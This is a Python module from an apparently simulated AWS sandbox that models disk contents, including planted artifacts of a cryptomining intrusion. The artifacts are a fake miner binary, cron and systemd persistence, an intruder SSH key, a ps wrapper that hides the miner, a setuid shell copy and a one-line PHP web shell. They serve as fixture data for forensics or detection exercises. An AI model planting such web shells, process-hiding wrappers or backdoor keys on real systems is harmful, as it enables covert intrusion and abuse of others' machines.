"""What is on the hosts' disks: files that snapshots carry, and that a volume made from one holds again.

The image's files are on every root disk. A host that talks to a mining pool has the miner, and how it came and
stays, on its disk too: what runs there and what lies there are one intrusion.
"""

import hashlib
from dataclasses import dataclass
from typing import Any, Final

from sandbox.aws.world import Host, World, notes_on, world_of

POOL_PORTS: Final = frozenset({3_333, 4_444, 5_555, 8_333})


@dataclass(frozen=True, slots=True, kw_only=True)
class File:
    """A file: its path from the root of its disk, what it holds and its mode."""

    path: str
    content: bytes
    mode: int = 0o644

    @property
    def sha256(self) -> str:
        """Of its content, in hexadecimal."""
        return hashlib.sha256(self.content).hexdigest()


ELF: Final = b"\x7fELF\x02\x01\x01\x00"
"""How every Linux program begins. Source: System V ABI, "ELF Header"."""

MINER: Final = File(
    path="tmp/.x/kdevtmpfsi",
    content=ELF + b"kdevtmpfsi: stratum+tcp://198.51.100.7:3333 pool.miner.example donate-level\n",
    mode=0o755,
)

IMAGE: Final = (
    File(path="usr/bin/ls", content=ELF + b"ls (GNU coreutils) 8.32\n", mode=0o755),
    File(path="usr/bin/ps", content=ELF + b"ps from procps-ng 3.3.17\n", mode=0o755),
    File(path="usr/bin/sudo", content=ELF + b"Sudo version 1.9.15\n", mode=0o4755),
    File(path="usr/sbin/sshd", content=ELF + b"OpenSSH_8.7p1\n", mode=0o755),
    File(path="etc/passwd", content=b"root:x:0:0:root:/root:/bin/bash\n"),
    File(path="etc/crontab", content=b"SHELL=/bin/bash\n"),
    File(path="usr/lib/systemd/system/sshd.service", content=b"[Service]\nExecStart=/usr/sbin/sshd -D\n"),
    File(path="home/ec2-user/.ssh/authorized_keys", content=b"ssh-ed25519 AAAAC3Nz operations\n", mode=0o600),
)
"""What the image brings."""


def _mining(start: str) -> tuple[File, ...]:
    """How the miner came, stays and hides."""
    return (
        File(path="etc/cron.d/systemd-private", content=f"*/5 * * * * root {start}\n".encode()),
        File(
            path="etc/systemd/system/kdevtmpfsi.service", content=f"[Service]\nExecStart={start}\n".encode()
        ),
        File(path="root/.ssh/authorized_keys", content=b"ssh-rsa AAAAB3NzaC1yc2E intruder\n", mode=0o600),
        File(path="usr/bin/ps", content=b'#!/bin/sh\n/usr/bin/.ps "$@" | grep -v kdevtmpfsi\n', mode=0o755),
        File(path="usr/bin/.ps", content=ELF + b"ps from procps-ng 3.3.17\n", mode=0o755),
        File(path="var/tmp/.sh", content=ELF + b"dash\n", mode=0o4755),
        File(
            path="var/www/html/up.php",
            content=b"<?php system($_GET['c']); // http://drop.miner.example/x\n",
        ),
    )


def _running(host: Host) -> tuple[File, ...]:
    """The programs and schedules of what runs, as far as they still lie on the disk."""
    programs = (
        File(path=p.executable.lstrip("/"), content=p.content, mode=0o755)
        for p in host.processes
        if p.content and not p.deleted
    )
    return (*programs, *(File(path=at.lstrip("/"), content=text.encode()) for at, text in host.cron.items()))


def _written(world: World, instance: str) -> tuple[File, ...]:
    """What was written to the host's root disk since it was launched."""
    mine = (f for f in world.flows.values() if f.instance == instance and f.direction == "out")
    pool = next((f for f in mine if f.port in POOL_PORTS), None)
    host = world.hosts.get(instance)
    traces = _mining(f"/{MINER.path} -o {pool.peer}:{pool.port}") if pool else ()
    return (*((MINER,) if pool else ()), *traces, *(_running(host) if host else ()))


def files_of(backend: Any, volume: Any) -> tuple[File, ...]:
    """What is on that moto volume now; `backend` is moto's EC2 backend. Data disks of the seed are empty.

    A volume that was made from a snapshot holds what the snapshot holds, until a host boots from it and writes.
    """
    brought: tuple[File, ...] | None = notes_on(volume).get("files")
    attached = volume.attachment
    if attached is None or attached.device != attached.instance.root_device_name:
        return brought or ()
    there = {
        file.path: file for file in (*(brought or IMAGE), *_written(world_of(backend), attached.instance.id))
    }
    return tuple(there.values())
